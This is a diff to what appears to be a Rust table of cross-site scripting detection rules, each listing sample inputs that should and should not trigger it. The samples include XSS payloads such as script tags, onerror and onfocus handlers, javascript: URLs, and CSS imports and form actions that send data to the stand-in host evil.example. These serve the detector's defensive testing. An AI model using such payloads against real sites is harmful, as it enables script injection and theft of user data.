@@ -8,10 +8,12 @@ findings! {
         ["<script>alert(1)</script>", "<svg/x>", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>"],
         ["<b>bold</b>", "a <scripted b", "price < 5"];
     EVENT_HANDLER: "xss-event-handler", STRONG, "an event handler",
-        ["<img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "<x/onclick=a()>"],
+        ["<img src=x onerror=alert(1)>", "<x/onclick=a()>"],
         ["depends on load = 5", "once=1", "/api.js?onload=ready"];
+    OPEN_SCRIPT: "xss-open-script", STRONG, "a script without attributes that nothing ends",
+        ["<script>alert(1)", "<script> tag: what is it?"], ["<script>a()</script>", "the script tag"];
     SCRIPT_URL: "xss-script-url", STRONG, "a URL that is a script",
-        ["javascript:alert(1)", "<a href=' java\tscript:x()'>", "data:text/html,<b>"],
+        ["<a href=' java\tscript:x()'>"],
         ["javascript: the good parts", "data:image/png;base64,AAAA"];
     ACTIVE_STYLE: "xss-active-style", STRONG, "a style that runs or loads something",
         ["<p style='x:expr/**/ession(alert(1))'>", "<style>@import'//evil.example/x'</style>", "<style>input[value^=a]{background:url(//evil.example/a)}</style>"],
@@ -38,4 +40,12 @@ findings! {
     COMMENT_END: "xss-comment-end", STRONG, "the end of a comment, where none began", ["-->x"], ["a --> b"];
     COMMENT: "xss-comment", FAINT, "a comment of markup", [], [];
     UTF7: "xss-utf7", STRONG, "markup in UTF-7", ["+ADw-script+AD4-"], ["a+b"];
+    EVENT_BEHIND: "xss-event-behind", STRONG, "an event handler behind an attribute",
+        ["\" autofocus onfocus=alert(1) x=\"", "a onclick=a()"],
+        ["depends on load = 5", "once=1", "/api.js?onload=ready", "<p onclick=a()>"];
+    ATTRIBUTE_BEHIND: "xss-attribute-behind", STRONG, "an attribute that holds markup or a place to send a form, behind another",
+        ["\" formaction=//evil.example"], ["formaction='x'"];
+    SCRIPT_VALUE: "xss-script-value", STRONG, "a URL that is a script, as the whole value",
+        ["javascript:alert(1)", "data:text/html,<b>"],
+        ["javascript: the good parts", "data:image/png;base64,AAAA"];
 }
